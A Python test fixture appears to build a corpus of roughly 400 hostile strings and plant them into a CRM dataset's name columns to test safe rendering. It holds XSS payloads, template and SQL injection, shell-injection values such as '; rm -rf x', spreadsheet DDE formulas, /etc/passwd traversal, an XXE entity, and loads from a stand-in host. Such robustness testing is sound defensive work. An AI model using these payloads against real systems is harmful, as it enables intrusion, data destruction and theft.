"""Four hundred texts that somebody may have typed into a CRM field, and a company in which each name is one of them.

Each text that could run code sets a canary, ``window.ran``, or opens a dialog; each that could fetch names an address.
"""

# ruff: noqa: E501  a list reads better in few lines
from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from bizops.schema import TABLES

RUN = "window.ran=1;alert(1)"
FETCH = "http://fetched.invalid/x"

_SCRIPTS = [
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f'<script src="{FETCH}.js"></script>', f"<script type=module>{RUN}</script>", f"<script async>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</table><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>", f"</caption></table><script>{RUN}</script>", f"</a><script>{RUN}</script>",
    f"</button><script>{RUN}</script>", f"</details></summary><script>{RUN}</script>", f"</main><script>{RUN}</script>",
    f"</desc><script>{RUN}</script>", f"</text></g></svg><script>{RUN}</script>", f"</body></html><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"*/</style><script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"＜script＞{RUN}＜/script＞", f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
]  # fmt: skip
_HANDLERS = [
    f"<{tag} {event}={quote}{RUN}{quote}{rest}>"
    for tag, event, rest in (
        ("img src=x", "onerror", ""), ("svg", "onload", ""), ("body", "onload", ""), ("input autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""), ("video src=x", "onerror", ""), ("audio src=x", "onerror", ""),
        ("iframe", "onload", ""), ("marquee", "onstart", ""), ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""), ("a href=# autofocus tabindex=0", "onfocus", ">press</a"),
        ("div style=animation-name:x", "onanimationstart", ""), ("p", "onmouseover", ">over</p"),
        ("object data=x", "onerror", ""), ("link rel=stylesheet href=x", "onerror", ""),
        ("style", "onload", "></style"), ("button popovertarget=x", "onclick", ">press</button"),
    )
    for quote in ("", '"', "'")
]  # fmt: skip
_BREAKOUTS = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}" x="', f"' autofocus onfocus='{RUN}",
    f'"><img src=x onerror="{RUN}">', f"'><img src=x onerror='{RUN}'>", f'"/><svg onload="{RUN}">', f"` onload=`{RUN}",
    f'" style="background:url({FETCH})', '" href="javascript:alert(1)', '" id="main', "' id='theme", '" class="skip',
    '"', "'", "`", '""', "''", '"\'`', "\\", '\\"', "\\'", "\\\\", '\\", x: "', "';alert(1);//", '";alert(1);//',
    "'+alert(1)+'", '"+alert(1)+"', "${alert(1)}", "`${alert(1)}`", "'-alert(1)-'", "\\';alert(1);//", '"]};alert(1);//',
    '"}]</script>', "'\"><", "<", ">", "&", "<>", "<!", "</", "<?", "&&", "&lt", "&amp;amp;", "& < > \" '",
]  # fmt: skip
_LINKS = [
    f"{scheme}{RUN}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
                   "javascript&colon;", "&#106;avascript:", "javascript://%0a", "vbscript:", "livescript:",
                   "view-source:javascript:")
] + [
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<a href="javascript:{RUN}">press</a>', f"[press](javascript:{RUN})", f"![x](x){{onerror={RUN}}}",
    f"[press]({FETCH})", f"![picture]({FETCH})", f"<{FETCH}>", f"[x]: javascript:{RUN}", FETCH, "//fetched.invalid/x",
    "file:///etc/passwd", "\\\\fetched.invalid\\share", f'<base href="{FETCH}">', "#main", "#s-gap", "../../../etc/passwd",
    "blob:null/0", f"<form action=javascript:{RUN}><input type=submit>",
    f'<meta http-equiv="refresh" content="0;url={FETCH}">',
]  # fmt: skip
_DRAWN = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>", f"<svg><image href='{FETCH}'/></svg>",
    f"<svg><use href='{FETCH}#x'/></svg>", f"<svg><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>",
    f"<svg><style>@import '{FETCH}';</style></svg>", f"<svg><set attributeName=onmouseover to='{RUN}'>",
    f"<math><mtext></mtext><mglyph><svg><mtext><img src=x onerror={RUN}>", f"<math href='javascript:{RUN}'>x</math>",
    "<title>x</title>", "<desc>x", "<g id='fig-gap'>", "url(#x)", "$\\frac{1}{0}$", "$x_1$", "$", "$$", "$a$ $b", "\\$x",
    "\\mathbb{x}", "$\\unknown{x}$", "_ignored", "_nolegend_", "%", "%s %d %n", "^{2}", "{}", "10^5", "x_{",
]  # fmt: skip
_STYLES = [
    f"<style>*{{background:url({FETCH})}}</style>", f"<style>@import url({FETCH});</style>",
    "<style>body{display:none}</style>", f'<link rel=stylesheet href="{FETCH}">', "</style><style>h1{display:none}",
    f"background:url({FETCH})", "expression(alert(1))", "x;}body{display:none", "<div style='position:fixed;inset:0'>",
    '<p style="width:9999px">wide</p>', "-moz-binding:url(x)", "@charset 'x';", "} @media print { * { display: none } ",
    "/* comment", "*/ body { display: none } /*", "var(--bg)", "<font size=99>", "<h1>heading</h1>", "<hr>", "<br><br><br>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{% for x in (1,) %}{% endfor %}", "{% raw %}", "{# comment #}", "{{ self }}", "{{ config }}",
    "{{ ''.__class__.__mro__ }}", "{%", "{{", "}}", "%}", "{{ say('x') }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% x %>",
    "{0}", "{count}", "{name}", "{x.__class__}", "{!r}", "{:>9999}", "{", "}", "{}{}{}", "%(name)s", "%s", "%n%x", "$name",
    "@{x}", "[[7*7]]", "*{7*7}", "~{x}", "<?php echo 1 ?>", "#set($x=1)", "@(1+1)", "`id`", "$(id)", "; rm -rf x", "| id",
    "'; DROP TABLE opportunity; --", '" OR 1=1 --', "NULL", "None", "nan", "undefined", "true", "-1", "0", "1e999",
    "__proto__", "constructor", "toString", "CON", ".", "..", "/",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", f'=HYPERLINK("{FETCH}","x")', f'=WEBSERVICE("{FETCH}")', "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=IMPORTXML(1)", '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0", "+x", "@x", "-", "=", "+", "@", "|x", "%0A=1",
]  # fmt: skip
_LETTERS = [
    "a\x00b", "\x00", "a\x07\x08b", "\x1b[31mred\x1b[0m", "a\x7fb", "a\x85b", "a\ufffeb", "a\uffffb", "\ufeffa",
    "a\u200bb\u200cc\u200dd", "\u202egnp.exe\u202c", "\u202e\u202d\u202b\u202a", "\u2066\u2067\u2068x", "a\u2028b\u2029c",
    "a\xadb", "\u200f\u200e", "Z̷̢͉̈a̶̖͐l̵̮̔g̶͕̾o̸̲̚" * 3, "ó" + "\u0301" * 60, "עברית", "العربية ١٢٣", "\u200f(abc\u200f)", "漢字かな交じり文", "한국어", "ไทยไม่มีเว้นวรรค",
    "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈", "😀" * 30, "🇩🇪🇫🇷", "ﷺ", "﷽", "ǅ", "ß İ ı ŉ", "A\u030a Å", "Ａ１", "　", "\xa0", "\u3000x\u3000", " lead and trail ",
    "tab\there", "line\nbreak", "line\r\nbreak", "\n\n# heading\n\n* item", "x" * 200, "W" * 400, "word " * 200,
    "無" * 200, "a" * 2000, "a-" * 300, "a/b" * 100, "\u00ad".join("abcdefgh" * 20), "&nbsp;" * 50,
]  # fmt: skip
_MARKUP = [
    "# heading", "## heading", "**bold**", "<b>bold", "`code`", "```\ncode", "| a | b |", "- item", "1. item", "> quote",
    "[x]", "[x][y]", "<!-- comment", "<!--", "-->", "<!--><script>", "<![CDATA[x]]>", "<![CDATA[", "]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;", "&lol9;", "<?xml version='1.0'?>", "<!ENTITY x 'y'>",
    "&#0;", "&#x1F4A9;", "&#xD800;", "&bogus;", "&copy", "<plaintext>", "<xmp>", "<noscript>", "<textarea>", "<title>",
    "<frameset>", "<template>", "<table><tr><td>", "</td></tr></table>", "</th>", "<tr class=total>", "<select><option>",
    "http-equiv", "1,234.5", "2026-10-04", "text/html", "C:\\x\\y", "jane.doe@customer.example", "+49 30 1234",
]  # fmt: skip

_ALL = dict.fromkeys(
    [*_SCRIPTS, *_HANDLERS, *_BREAKOUTS, *_LINKS, *_DRAWN, *_STYLES, *_TEMPLATES, *_FORMULAS, *_LETTERS, *_MARKUP]
)
TEXTS: tuple[str, ...] = tuple(sorted(_ALL, key=lambda text: hashlib.sha256(text.encode()).digest()))
"""All of them, in a fixed order that mixes the kinds."""

COMPANY = f'A & B "</title><script>{RUN}</script>'
"""A company's own name is typed by somebody too."""

# Words of the contract although their columns are plain text: currencies, metrics, periods, the version of a plan.
_WORDS = {"currency", "metric_id", "period", "version", "source", "source_id"}
# What the pages name most comes first: these get texts as they are, later values a text and their old name.
_FIRST = (
    ("dim_account", "region"), ("dim_account", "segment"), ("opportunity", "lost_reason"), ("dim_product", "name"),
    ("opportunity", "competitor"), ("renewal", "reason"), ("opportunity", "lead_source"), ("dim_person", "name"),
)  # fmt: skip


def plant(folder: Path) -> dict[str, str]:
    """Put a text in the place of every name in the tables of a company, and return the text of each old name.

    One old value has one new value in all columns, so that keys still meet. Of an id column with more values than
    texts the first ones change.
    """
    tables = {path.stem: pq.read_table(path) for path in sorted(folder.glob("*.parquet"))}
    # The contract refuses a NUL byte; the tests of its check see to that.
    usable = [text for text in TEXTS if "\0" not in text]
    raw = iter([text for text in usable if text.strip()])
    new: dict[str, str] = {}
    for table, column in sorted(_plain_columns(tables), key=lambda c: (_FIRST.index(c) if c in _FIRST else 99, c)):
        distinct = [v for v in tables[table][column].unique().to_pylist() if v and v not in new]
        for i, value in enumerate(sorted(distinct)[: len(usable)]):
            fresh = None if column.endswith("_id") else next(raw, None)
            new[value] = fresh or f"{usable[i]} {value}"
    for name, table in tables.items():
        columns = {c.name: c.type for c in TABLES[name].columns if c.name in table.column_names}
        for column, kind in columns.items():
            if (name, column) in _plain_columns(tables):
                table = _replaced(table, column, lambda v: new.get(v, v))
            elif kind == "json":
                table = _replaced(table, column, lambda v: _json(v, new))
        pq.write_table(table, folder / f"{name}.parquet")
    return new


def _plain_columns(tables: dict[str, pa.Table]) -> list[tuple[str, str]]:
    return [
        (name, column.name)
        for name, table in tables.items()
        for column in TABLES[name].columns
        if column.type == "string" and column.name in table.column_names and column.name not in _WORDS
    ]


def _replaced(table: pa.Table, column: str, change: Callable[[str], str]) -> pa.Table:
    values = [v if v is None else change(v) for v in table[column].to_pylist()]
    return table.set_column(table.column_names.index(column), column, pa.array(values, table[column].type))


def _json(value: str, new: dict[str, str]) -> str:
    document: Any = json.loads(value)
    if isinstance(document, dict):
        document = {k: new.get(v, v) if isinstance(v, str) else v for k, v in document.items()}
    return json.dumps(document, separators=(",", ":"))
